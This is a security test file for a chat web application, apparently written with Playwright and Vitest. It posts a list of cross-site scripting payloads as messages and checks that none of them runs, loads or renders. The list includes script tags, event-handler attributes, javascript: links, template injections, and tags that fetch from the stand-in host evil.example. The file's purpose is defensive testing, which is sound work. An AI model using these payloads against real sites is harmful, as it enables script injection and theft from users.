import type { Page } from "playwright-core";
import { beforeAll, describe, expect, test } from "vitest";
import { apiAs } from "./api-as.ts";
import { axeFindings } from "./axe-findings.ts";
import { freshProfile, sizes } from "./browser.ts";
import { bubbles, composer, messageList, openRoom, say, signedIn } from "./people.ts";
import { startStage } from "./stage.ts";

/** Texts that would run, load or draw something in a page that takes them for markup; each reveals itself by `rupt`. */
const payloads = [
  `<script>alert("rupt")</script>`,
  `<img src=x onerror=alert("rupt")>`,
  `<svg/onload=alert("rupt")>`,
  `<svg><script xlink:href="https://evil.example/rupt.js"></script></svg>`,
  `<iframe srcdoc="<script>parent.alert('rupt')</script>"></iframe>`,
  `<body onload=alert("rupt")>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert("rupt")>`,
  `"><img src=https://evil.example/rupt.gif>`,
  `' onmouseover='alert("rupt")' x='`,
  `<a href="javascript:alert('rupt')">apasă rupt</a>`,
  `javascript:alert("rupt")`,
  `https://evil.example/"onmouseover="alert('rupt')`,
  `<link rel=stylesheet href=https://evil.example/rupt.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/rupt">`,
  `<form action=https://evil.example/rupt><button>rupt</button></form>`,
  `<base href=https://evil.example/rupt/>`,
  `<object data="data:text/html,<script>alert('rupt')</script>"></object>`,
  `<details open ontoggle=alert("rupt")>rupt</details>`,
  `\${alert("rupt")} {{constructor.constructor('alert("rupt")')()}}`,
  `</textarea></p></article><script>alert("rupt")</script>`,
  `{count, plural, =0 {<b>rupt</b>} other {#}}`,
  `<style>*{background:url(https://evil.example/rupt.png)}</style>`,
  `https://rupt.example\u202e/gro.elpmaxe.live`,
];

/** The links among the messages that are drawn. */
const linksOf = async (page: Page) =>
  await messageList(page)
    .getByRole("link")
    .evaluateAll((all) => all.map((link) => ({ text: link.textContent, href: link.getAttribute("href") })));

const foreign =
  "script, img, iframe, object, embed, link, meta, form, base, style, svg image, details, math, video, audio";

const { product, browser } = await startStage({ LIMITS: "off" });

describe("texts that are meant to break out", () => {
  let ana: Page;
  let radu: Page;
  const caught: string[] = [];

  function watch(page: Page): void {
    const own = new URL(product.address).host;
    page.on("dialog", (dialog) => {
      caught.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const { host, protocol } = new URL(request.url());
      if (host !== own && protocol !== "data:" && protocol !== "blob:") caught.push(`request: ${request.url()}`);
    });
    page.on("console", (line) => {
      if (/content security policy/iu.test(line.text())) caught.push(line.text());
    });
    page.on("framenavigated", (frame) => {
      if (new URL(frame.url()).host !== own) caught.push(`frame: ${frame.url()}`);
    });
  }

  beforeAll(async () => {
    ana = await signedIn(browser, product, "ana");
    radu = await signedIn(browser, product, "radu");
    for (const page of [ana, radu]) watch(page);
    await openRoom(ana, 10_003);
    await openRoom(radu, 10_003);
  });

  test("[SEC-13f][RUN-11a] nothing of a message runs, loads or becomes an element, live, loaded again and in the list", async () => {
    const elements = (): Promise<number> => messageList(ana).locator(foreign).count();
    const before = await elements();
    const api = await apiAs(product, "radu");
    const { chats } = await api.get<{ chats: readonly { id: number }[] }>("chat/oferta.10003");
    for (const message of payloads) await api.post(`publish/${chats[0]?.id}`, { message });
    // All of them are drawn at once.
    await ana.setViewportSize({ width: 1440, height: 2400 });
    await bubbles(ana, "rupt")
      .nth(payloads.length - 1)
      .waitFor();
    expect(await elements()).toBe(before);
    await ana.setViewportSize(sizes.desk);
    await ana.reload();
    await composer(ana).waitFor();
    await bubbles(ana, payloads[0] ?? "").waitFor();
    const links = await linksOf(ana);
    // The room opens at the first of them, and the last may lie below the window.
    await messageList(ana).press("End");
    await bubbles(ana, payloads.at(-1) ?? "").hover();
    links.push(...(await linksOf(ana)));
    for (const { text, href } of links) expect([text, `http://${text}`, `mailto:${text}`]).toContain(href);
    expect(links.filter(({ href }) => /script|live/u.test(href ?? ""))).toEqual([]);
    expect(caught).toEqual([]);
  });

  test("[SEC-13a][SEC-13b] a paste from a table loses what nobody sees, and is sent; what shows nothing cannot be", async () => {
    await composer(radu).fill("Discuri\u000b1K0 615 399 ZZ\u0007\tpreț 120");
    await composer(radu).press("Enter");
    await bubbles(ana, "Discuri").getByText("Discuri\n1K0 615 399 ZZ\tpreț 120").waitFor();
    await composer(radu).fill("\u200b\u3164");
    await composer(radu).press("Enter");
    await expect.poll(() => composer(radu).inputValue()).toBe("");
  });

  test("[SEC-13f] marks that are piled up stay inside their own bubble", async () => {
    await say(radu, `Turn ${"e" + "\u0301\u0300\u0302".repeat(1300)}`);
    const bubble = bubbles(ana, "Turn").locator("[data-bubble]");
    await bubble.waitFor();
    expect(await bubble.evaluate((element) => getComputedStyle(element).overflow)).toBe("clip");
  });

  test("[SEC-11] a link to /logout deletes nothing before the answer, and no leads home", async () => {
    await composer(ana).fill("ciorna mea");
    await ana.goto(`${product.address}/logout`);
    const question = ana.getByRole("heading", { name: "Ieși din cont?" });
    await expect.poll(() => question.evaluate((element) => element === document.activeElement)).toBe(true);
    await ana.getByText("Ești în cont ca").waitFor();
    expect(await axeFindings(ana)).toEqual([]);
    await ana.keyboard.press("Escape");
    await expect.poll(() => new URL(ana.url()).pathname).toBe("/");
    await openRoom(ana, 10_003);
    await expect.poll(() => composer(ana).inputValue()).toBe("ciorna mea");
    await composer(ana).fill("");
  });

  test("[WEB-1] the browser keeps what is listed and nothing else", async () => {
    const keys = await ana.evaluate(() => ({
      local: Object.keys(localStorage).map((key) => key.replaceAll(/\d+/gu, "N")),
      session: Object.keys(sessionStorage),
      cookies: document.cookie,
    }));
    expect(keys.local.filter((key) => !/^(?:token|language|notifications|cuplaj\.[a-z.N-]+)$/u.test(key))).toEqual([]);
    expect(keys).toMatchObject({ session: [], cookies: "" });
  });

  test("[RUN-11a] another page cannot show ours in a frame", async () => {
    const page = await (await freshProfile(browser)).newPage();
    await page.route("https://host.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${product.address}/login"></iframe>` }),
    );
    await page.goto("https://host.example/");
    await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  });
});
